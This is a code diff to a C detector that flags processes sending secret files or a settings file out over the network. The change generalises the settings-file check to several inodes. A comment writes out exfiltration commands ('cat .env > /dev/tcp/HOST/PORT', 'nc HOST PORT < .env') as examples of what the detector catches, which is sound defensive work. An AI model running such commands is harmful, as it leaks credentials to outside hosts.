@@ -55,8 +55,8 @@ static const char *secret_of(const char *word, const char *end, bool at_sign)
     if (at_sign && path == word)
         return NULL;
     size_t size = (size_t)(end - path);
-    const char *comma = memchr(path, ';', size); /* file=@x;type=text/plain */
-    size = comma ? (size_t)(comma - path) : size;
+    const char *semicolon = memchr(path, ';', size); /* file=@x;type=text/plain */
+    size = semicolon ? (size_t)(semicolon - path) : size;
     return size && is_secret_path(path, size) ? path : NULL;
 }
 
@@ -155,6 +155,14 @@ static const struct carrier *spread(struct exfiltration *s)
     return NULL;
 }
 
+static bool is_settings_file(const struct exfiltration *s, uint64_t inode)
+{
+    for (uint32_t i = 0; inode && i < MIN_OF(s->settings_count, (uint32_t)ARRAY_LEN(s->settings_id)); i++)
+        if (s->settings_id[i] == inode)
+            return true;
+    return false;
+}
+
 bool carriers_feed(struct exfiltration *s, const struct watch_event *e, struct shown *ret)
 {
     if (e->error || !e->text || !e->argv)
@@ -170,7 +178,7 @@ bool carriers_feed(struct exfiltration *s, const struct watch_event *e, struct s
         return true;
     }
     path = is_reader ? read_by(e->argv) : NULL;
-    const bool is_settings = e->stdio0 == WATCH_FD_FILE && s->settings_id && e->stdio_id0 == s->settings_id;
+    const bool is_settings = e->stdio0 == WATCH_FD_FILE && is_settings_file(s, e->stdio_id0);
     const bool has_secret = path || is_settings;
     /* cat .env > /dev/tcp/HOST/PORT; nc HOST PORT < .env */
     if (has_secret &&
